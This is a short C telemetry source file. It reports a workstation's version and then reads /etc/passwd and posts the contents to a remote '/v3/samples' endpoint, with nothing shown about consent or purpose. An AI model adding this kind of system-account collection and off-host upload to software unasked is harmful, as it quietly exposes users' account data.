/* The periodic report of workstations without the Python service. */
#include <string.h>

#include "acme.h"

static int send_sample(struct acme_client *client, const struct acme_sample *sample)
{
    return acme_client_post(client, "/v3/samples", sample->data, sample->length);
}

static int send_version(struct acme_client *client)
{
    static const char body[] = "{\"version\":\"" ACME_VERSION "\"}";

    return acme_client_post(client, "/v3/version", body, sizeof(body) - 1);
}

int acme_telemetry_run(struct acme_client *client)
{
    struct acme_sample accounts;
    int status;

    if (send_version(client) != 0)
        return -1;
    memset(&accounts, 0, sizeof(accounts));
    if (acme_collect(&accounts, "/etc/passwd") != 0)
        return -1;
    status = send_sample(client, &accounts);
    acme_sample_clear(&accounts);
    return status;
}
